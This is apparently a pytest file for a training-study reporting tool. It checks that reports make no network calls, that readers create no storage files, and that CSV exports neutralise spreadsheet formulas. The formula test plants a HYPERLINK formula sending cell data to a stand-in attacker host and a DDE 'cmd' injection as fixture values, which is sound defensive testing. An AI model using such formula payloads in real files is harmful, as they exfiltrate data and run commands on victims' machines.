"""``report`` and ``trials`` stay offline and read-only: a study naming a hub model id is
reported without one connection to the hub, a missing SQLite file is not created, and CSV cells
that a spreadsheet would run as formulas are neutralised."""

from __future__ import annotations

import csv
import os
import socket
import subprocess
import sys
import threading
from pathlib import Path

import optuna
from tests.reports.conftest import SWEEP, add, attrs


def test_report_on_a_hub_model_makes_no_connection(tmp_path: Path) -> None:
    storage = f"sqlite:///{tmp_path / 'study.db'}"
    study = optuna.create_study(storage=storage, study_name="hub")
    study.set_user_attr("sweep", SWEEP)
    for i, lr in enumerate((3e-3, 1e-2)):  # trials that name a hub id instead of a preset
        record = attrs("completed", final=2.0 + i, lr=lr)
        record["config"]["model"] = "some-org/some-model"
        add(study, i, optuna.trial.TrialState.COMPLETE, {"lr": lr}, record, [2.0 + i])
    accepted: list[object] = []
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.2)
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                accepted.append(server.accept()[0])
            except OSError:
                continue

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    endpoint = f"http://127.0.0.1:{server.getsockname()[1]}"
    env = {k: v for k, v in os.environ.items() if k not in ("HF_HUB_OFFLINE", "TRANSFORMERS_OFFLINE")}
    env.update(HF_ENDPOINT=endpoint, HTTPS_PROXY=endpoint, HTTP_PROXY=endpoint, https_proxy=endpoint,
               http_proxy=endpoint, HF_HOME=str(tmp_path / "hf"))
    try:
        proc = subprocess.run([sys.executable, "-m", "trainplan", "report", "--storage", storage, "--study", "hub",
                               "--out", str(tmp_path / "out")], capture_output=True, text=True, env=env, timeout=120)
    finally:
        stop.set()
        thread.join()
        server.close()
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert accepted == []
    page = (tmp_path / "out" / "report.html").read_text()
    assert "some-org/some-model" in page


def test_readers_never_create_a_storage(tmp_path: Path) -> None:
    from trainplan.cli import main

    for argv in (["report", "--storage", f"sqlite:///{tmp_path / 'a.db'}"], ["trials", "--storage", str(tmp_path / "b.db")],
                 ["trials", "--storage", str(tmp_path / "c.log")]):
        assert main(argv) == 2
    assert list(tmp_path.iterdir()) == []


def test_csv_exports_neutralise_formulas(tmp_path: Path) -> None:
    from trainplan.cli import main

    storage = f"sqlite:///{tmp_path / 'study.db'}"
    study = optuna.create_study(storage=storage, study_name="evil")
    trial = study.ask()
    trial.set_user_attr("status", "completed")
    trial.set_user_attr("reason", '=HYPERLINK("http://evil.example/?x="&A1,"click")')
    trial.set_user_attr("trial_dir", "+cmd|' /C calc'!A0")
    study.tell(trial, 1.0)
    assert main(["trials", "--storage", storage, "--study-name", "evil", "-o", str(tmp_path / "t.csv")]) == 0
    assert main(["report", "--storage", storage, "--study", "evil", "--out", str(tmp_path / "r")]) == 0
    files = [tmp_path / "t.csv", *(tmp_path / "r" / "report_data").glob("*.csv")]
    cells = [cell for f in files for row in csv.reader(f.open()) for cell in row]
    assert any("HYPERLINK" in c for c in cells)
    assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not _number(c))]


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
